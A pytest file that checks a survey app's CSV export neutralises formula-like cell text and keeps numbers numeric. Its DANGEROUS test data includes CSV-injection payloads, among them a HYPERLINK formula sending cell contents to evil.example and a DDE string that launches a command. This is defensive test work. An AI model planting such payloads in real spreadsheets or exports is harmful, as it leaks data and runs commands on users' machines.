"""CSV cells cannot run as formulas, and numbers stay numbers."""

import csv
import io
import json
from datetime import date, timedelta

import pytest
from fastapi.testclient import TestClient
from sqlmodel import Session

from app.clock import utcnow
from app.exports.spreadsheet import cell
from app.pulses.models import SurveyVersion
from tests.factories import bearer, make_api_token, make_team, make_user, settle
from tests.insights.rows import add_responses, add_round

DANGEROUS = {
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "dde": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
}


@pytest.mark.parametrize("text", DANGEROUS.values())
def test_text_starting_like_a_formula_is_prefixed_with_a_quote(text: str) -> None:
    assert cell(text) == "'" + text


def test_numbers_stay_numbers_even_when_negative() -> None:
    assert cell(-1.5) == "-1.5"
    assert cell(-3) == "-3"
    assert cell(0.1 + 0.2) == "0.30000000000000004"  # read back as the same float
    assert float(cell(55.36772705455064)) == 55.36772705455064
    # The same characters as text are text, and are neutralised.
    assert cell("-1.5") == "'-1.5"


def test_plain_values() -> None:
    assert [cell(None), cell(True), cell(False), cell(date(2026, 3, 2)), cell("W09")] == [
        "",
        "true",
        "false",
        "2026-03-02",
        "W09",
    ]


def test_question_texts_that_look_like_formulas_are_neutralised_in_the_csv(
    client: TestClient, session: Session
) -> None:
    keys = list(DANGEROUS)
    content = {
        "id": "hostile",
        "version": 1,
        "title": "Hostile",
        "scale": {"min": 1, "max": 5, "labels": ["1", "2", "3", "4", "5"]},
        "questions": [
            {"key": key, "text": text, "dimension": "trust", "reverse": False}
            for key, text in DANGEROUS.items()
        ],
    }
    version = SurveyVersion(
        survey_id="hostile", version=1, content_hash="hostile", content=json.dumps(content)
    )
    session.add(version)
    session.commit()
    team = make_team(session).team
    today = utcnow().date()
    monday = today - timedelta(days=today.weekday(), weeks=2)
    round_ = add_round(session, team, monday=monday, version=version)
    add_responses(session, round_, [[1, 2, 3, 4, 5, 1, 2]] * 5, keys=keys)
    token = make_api_token(session, make_user(session, teams=[team]))
    settle(session)
    response = client.get(
        f"/api/v1/teams/{team.slug}/export?format=csv&variant=questions&from={monday}&to={monday}",
        headers=bearer(token),
    )
    assert response.status_code == 200, response.text
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert {row["question"]: row["text"] for row in rows} == {
        key: "'" + text for key, text in DANGEROUS.items()
    }
    for row in rows:
        assert not row["text"].startswith(("=", "+", "-", "@", "\t", "\r"))
        # Figures are still plain numbers a spreadsheet sums.
        assert float(row["mean"]) in (1.0, 2.0, 3.0, 4.0, 5.0)
        assert int(row["answers"]) == 5
